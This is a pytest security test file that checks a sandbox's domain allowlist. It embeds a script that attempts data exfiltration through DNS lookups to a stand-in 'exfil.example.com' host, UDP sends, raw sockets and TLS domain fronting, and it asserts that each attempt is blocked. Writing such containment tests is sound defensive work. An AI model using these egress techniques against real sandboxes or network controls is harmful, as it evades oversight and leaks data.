"""Red-team of ``policy.network_domains`` from inside the real sandbox: the ways out that are not HTTP.

DNS (a lookup is a message to whoever serves the zone: ``<secret>.attacker.example``), UDP, raw and
packet sockets, IPv6, and the host's resolver socket; then domain fronting over TLS through the proxy.
The proxy's own attacks (SNI, Host header, smuggling, slow clients) are in ``test_netproxy_attacks.py``.
"""

from __future__ import annotations

import errno
import json
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from mnemo.policy import run_sandboxed
from mnemo.policy import sandbox as sb
from mnemo.policy.netproxy import NetWiring, NetworkEvent
from tests.security.sites import Site
from tests.security.test_network_allowlist import ALLOWLIST, needs_bwrap

pytestmark = pytest.mark.timeout(60)


@pytest.fixture
def ws(make_workspace: Callable[..., Path]) -> Path:
    return make_workspace({"MEMORY.md": "# Memory\n"})


EGRESS = r"""
import json, os, socket, ssl, sys

def attempt(make):
    try:
        return make()
    except ssl.SSLError as e:
        return str(e)
    except OSError as e:
        return e.errno if e.errno is not None else type(e).__name__

def dns():
    socket.getaddrinfo("c2VjcmV0.exfil.example.com", 80)
    return "resolved"

def udp(family, address):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.sendto(b"secret", address)
    return "sent"

def opened(*args):
    socket.socket(*args).close()
    return "opened"

def front(target, name):  # CONNECT to one name, then TLS asking the same server for another
    proxy = socket.create_connection(("127.0.0.1", int(os.environ["https_proxy"].rsplit(":", 1)[1])), 5)
    proxy.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    if not proxy.recv(4096).startswith(b"HTTP/1.1 200"):
        return "no tunnel"
    tls = ssl.create_default_context(cafile="ca.pem").wrap_socket(proxy, server_hostname=name)
    tls.sendall(f"GET /fronted HTTP/1.1\r\nHost: {name}\r\n\r\n".encode())
    return tls.recv(4096).decode()

if sys.argv[1] == "front":
    print(json.dumps({"front": attempt(lambda: front(sys.argv[2], sys.argv[3]))}))
    sys.exit()
print(json.dumps({
    "dns": attempt(dns),
    "udp4": attempt(lambda: udp(socket.AF_INET, ("8.8.8.8", 53))),
    "udp6": attempt(lambda: udp(socket.AF_INET6, ("2001:4860:4860::8888", 53))),
    "raw": attempt(lambda: opened(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)),
    "packet": attempt(lambda: opened(socket.AF_PACKET, socket.SOCK_RAW, 0)),
    "run": os.listdir("/run"),
}))
"""


def test_the_resolver_folder_is_bound_only_with_the_whole_network(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """systemd-resolved's folder holds its varlink socket: a ``connect()`` to it needs no network, and
    every name looked up through it is a DNS query leaving the machine (a channel out of any sandbox)."""
    resolver = tmp_path / "resolve"
    resolver.mkdir()
    monkeypatch.setattr(sb, "_RESOLVER", str(resolver))
    ws = tmp_path / "ws"
    ws.mkdir()
    filtered = NetWiring(binds=(), prefix=(), env={})
    assert str(resolver) in sb.bwrap_argv("true", ws, network=True, seccomp_fd=7)
    assert str(resolver) not in sb.bwrap_argv("true", ws, seccomp_fd=7)  # no network
    assert str(resolver) not in sb.bwrap_argv("true", ws, network=True, seccomp_fd=7, wiring=filtered)


@needs_bwrap
def test_no_dns_udp_raw_or_ipv6_way_out_of_a_filtered_sandbox(ws: Path) -> None:
    (ws / "egress.py").write_text(EGRESS, encoding="utf-8")
    events: list[NetworkEvent] = []
    result = run_sandboxed("python3 egress.py all", ws, network_domains=ALLOWLIST, on_network=events.append)
    assert result.exit_code == 0, result.stderr
    out = json.loads(result.stdout)
    assert out["dns"] != "resolved"  # no resolver reachable: the name never left
    assert out["udp4"] == errno.ENETUNREACH and out["udp6"] in (errno.ENETUNREACH, errno.EADDRNOTAVAIL)
    assert out["raw"] == errno.EPERM and out["packet"] in (errno.EPERM, errno.EAFNOSUPPORT, errno.EACCES)
    assert out["run"] == []  # no host sockets, the resolver's included
    assert events == []


@needs_bwrap
def test_tls_fronting_from_the_sandbox_is_refused(ws: Path, tls_site: Site) -> None:
    (ws / "egress.py").write_text(EGRESS, encoding="utf-8")
    events: list[NetworkEvent] = []
    target = f"allowed.test:{tls_site.port}"
    fronted = run_sandboxed(
        f"python3 egress.py front {target} denied.test",
        ws,
        network_domains=ALLOWLIST,
        on_network=events.append,
    )
    honest = run_sandboxed(f"python3 egress.py front {target} allowed.test", ws, network_domains=ALLOWLIST)
    assert "ACCESS_DENIED" in json.loads(fronted.stdout)["front"].upper()  # the client's TLS alert
    assert json.loads(honest.stdout)["front"].startswith("HTTP/1.0 200")
    assert tls_site.hosts == ["allowed.test"]  # only the honest request reached the server
    assert [(e.allowed, e.reason) for e in events] == [
        (True, "in policy.network_domains"),
        (False, "the TLS ClientHello asks for 'denied.test', not allowed.test"),
    ]


@needs_bwrap
@pytest.mark.skipif(shutil.which("curl") is None, reason="curl is not installed")
def test_curl_still_gets_through_to_an_allowed_name(ws: Path, tls_site: Site) -> None:
    """The stricter proxy still takes what real clients send (curl's CONNECT and absolute-form heads)."""
    p = tls_site.port
    result = run_sandboxed(
        f"curl -sS --cacert ca.pem https://allowed.test:{p}/curl; echo; "
        f"curl -sS -o /dev/null -w '%{{http_code}}' --cacert ca.pem https://denied.test:{p}/",
        ws,
        network_domains=ALLOWLIST,
    )
    lines = result.stdout.splitlines()
    assert lines[0] == "tls /curl" and lines[1] in ("000", "403"), result.stdout + result.stderr
    assert tls_site.hosts == [f"allowed.test:{p}"]
